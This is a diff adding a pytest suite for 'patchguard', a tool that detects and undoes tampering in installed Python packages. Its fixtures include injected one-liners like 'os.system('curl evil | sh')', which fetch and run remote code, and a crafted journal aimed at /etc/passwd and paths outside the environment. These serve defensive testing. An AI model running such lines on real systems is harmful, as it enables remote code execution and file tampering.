@@ -1,0 +1,183 @@
+"""Attacks and accidents a review found: each must end in the safe outcome, with a clear message."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+import shutil
+from pathlib import Path
+
+import patchguard
+from patchguard import Kind, Severity
+
+from .helpers import REPO, Env, build_wheel, cli
+
+MLA = "minillm/models/mla.py"
+
+
+def _b64(data: bytes) -> str:
+    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+
+
+def test_odd_line_breaks_in_a_comment_do_not_hide_injected_code(tmp_path: Path) -> None:
+    env = Env(tmp_path / "venv")
+    src = "def b(x):\n    z = x + 1\n    w = z - 3\n    return w\n"
+    wheel = build_wheel(tmp_path / "house", "ffpkg", "1.0", {"ffpkg/__init__.py": src})
+    env.install(wheel)
+    edited = src.replace(
+        "    w = z - 3\n", "    w = z - 3  # \x1c\x0c\x85\u2028\n    import os; os.system('curl x|sh')\n"
+    )
+    (env.site / "ffpkg/__init__.py").write_text(edited)
+    report = patchguard.scan(["ffpkg"], site_packages=[str(env.site)], wheelhouse=[str(tmp_path / "house")])
+    hits = [(f.rule, f.line) for f in report.findings if f.severity is Severity.HIGH]
+    assert hits == [("subprocess", 4)]
+
+
+def test_a_crafted_journal_cannot_reach_outside_the_environment(env: Env, tmp_path: Path) -> None:
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    (victim / "a").write_text("keep a")
+    (victim / "b").write_text("keep b")
+    state = env.site / ".patchguard"
+    state.mkdir()
+    (state / "journal.json").write_text(
+        json.dumps(
+            {
+                "schema": "patchguard.journal/1",
+                "txid": "x1",
+                "also": [str(victim)],
+                "entries": [
+                    {"path": str(victim / "a"), "before": None, "tmp": str(victim / "b")},
+                    {
+                        "path": str(env.site / MLA),
+                        "before": "00",
+                        "backup": "/etc/hostname",
+                        "tmp": "/etc/passwd",
+                    },
+                ],
+            }
+        )
+    )
+    mla = (env.site / MLA).read_bytes()
+    code, _, err = cli("scan", "minillm", "--site-packages", str(env.site), "--no-analysis")
+    assert code == 0, err
+    assert (victim / "a").read_text() == "keep a" and (victim / "b").read_text() == "keep b"
+    assert (env.site / MLA).read_bytes() == mla  # the backup outside the transaction's dir was not used
+    assert Path("/etc/passwd").exists()
+    assert not (state / "journal.json").exists()
+
+
+def test_malformed_journal_is_a_clear_error(env: Env) -> None:
+    state = env.site / ".patchguard"
+    state.mkdir()
+    (state / "journal.json").write_text('{"entries": [1]}')
+    code, out, err = cli("scan", "--site-packages", str(env.site))
+    assert code == 2 and out == "" and "malformed transaction journal" in err and "Traceback" not in err
+
+
+def test_restore_never_writes_outside_the_environment(env: Env, tmp_path: Path, minillm_wheel: Path) -> None:
+    house = tmp_path / "house"
+    house.mkdir()
+    shutil.copy(minillm_wheel, house)
+    envs = (env.site / "minillm/envs.py").read_bytes()
+    victim = tmp_path / "victim2"
+    victim.mkdir()
+    record = env.dist_info("minillm", "0.4.0") / "RECORD"
+    record.write_text(record.read_text() + f"{victim / 'notes.txt'},sha256={_b64(envs)},{len(envs)}\n")
+    (env.site / "minillm/envs.py").write_text("x = 1\n")
+    patchguard.restore(
+        ["minillm"], site_packages=[str(env.site)], paths=["minillm/*"], wheelhouse=[str(house)]
+    )
+    code, _, err = cli("restore", "minillm", "--site-packages", str(env.site), "--wheelhouse", str(house))
+    assert code == 2 and "resolves outside" in err
+    assert list(victim.iterdir()) == []
+
+
+def test_an_allowed_set_does_not_excuse_more_code(env: Env, tmp_path: Path) -> None:
+    shutil.copytree(REPO / "patches", tmp_path / "patches")
+    patchguard.apply_set("glm5-debug", site_packages=[str(env.site)])
+    (tmp_path / "patchguard.toml").write_text('allowed_sets = ["glm5-debug"]\n')
+    assert cli("check", "--site-packages", str(env.site))[0] == 0
+    with open(env.site / MLA, "a") as f:
+        f.write("\nimport os; os.system('curl evil | sh')\n")
+    code, out, _ = cli("check", "--site-packages", str(env.site))
+    assert code == 1 and "subprocess" in out
+
+
+def test_patch_sets_never_touch_metadata(env: Env, tmp_path: Path) -> None:
+    d = tmp_path / "patches/hide"
+    d.mkdir(parents=True)
+    (d / "patchset.toml").write_text(
+        'name = "hide"\ntargets = [{distribution = "minillm", version = ""}]\nfiles = ["0001.patch"]\n'
+    )
+    (d / "0001.patch").write_text(
+        "--- a/minillm-0.4.0.dist-info/RECORD\n+++ b/minillm-0.4.0.dist-info/RECORD\n@@ -1 +1 @@\n-x\n+y\n"
+    )
+    code, _, err = cli("apply", "--set", "hide", "--site-packages", str(env.site))
+    assert code == 2 and "never patched" in err
+
+
+def test_a_deleted_subpackage_is_restored(env: Env, tmp_path: Path, minillm_wheel: Path) -> None:
+    shutil.rmtree(env.site / "minillm/kernels")
+    result = patchguard.restore(
+        ["minillm"], site_packages=[str(env.site)], wheelhouse=[str(minillm_wheel.parent)]
+    )
+    assert result.after is not None and result.after.findings == ()
+    assert (env.site / "minillm/kernels/__init__.py").exists()
+
+
+def test_an_unexpected_python_file_stays_unexpected_with_analysis(env: Env) -> None:
+    (env.site / "minillm/extra.py").write_text("x = 1\n")
+    report = patchguard.scan(["minillm"], site_packages=[str(env.site)])
+    assert [(f.kind, f.severity, f.rule) for f in report.findings] == [
+        (Kind.UNEXPECTED, Severity.MODERATE, "unexpected-python")
+    ]
+    assert cli("scan", "minillm", "--site-packages", str(env.site), "--fail-on", "moderate")[0] == 1
+
+
+def test_capture_with_a_bad_version_leaves_nothing(env: Env, tmp_path: Path, minillm_wheel: Path) -> None:
+    (env.site / MLA).write_text((env.site / MLA).read_text() + "\n# x\n")
+    code, _, err = cli(
+        "capture",
+        "minillm",
+        "--set",
+        "bad",
+        "--version",
+        "not a spec",
+        "--patches",
+        str(tmp_path / "p"),
+        "--site-packages",
+        str(env.site),
+        "--wheelhouse",
+        str(minillm_wheel.parent),
+    )
+    assert code == 2 and "is not a version specifier" in err
+    assert not (tmp_path / "p/bad").exists()
+
+
+def test_every_command_says_it_rolled_back(env: Env, tmp_path: Path, minillm_wheel: Path) -> None:
+    import subprocess
+
+    from .helpers import patchguard_exe
+
+    (env.site / MLA).write_text("x = 1\n")
+    proc = subprocess.run(
+        [
+            *patchguard_exe(),
+            "restore",
+            "minillm",
+            "--site-packages",
+            str(env.site),
+            "--wheelhouse",
+            str(minillm_wheel.parent),
+        ],
+        env={**__import__("os").environ, "PATCHGUARD_TEST_CRASH_AT": "6"},
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert proc.returncode == 137
+    code, _, err = cli("scan", "minillm", "--site-packages", str(env.site), "--no-analysis")
+    assert "rolled back an interrupted transaction first" in err
+    assert (env.site / MLA).read_text() == "x = 1\n"
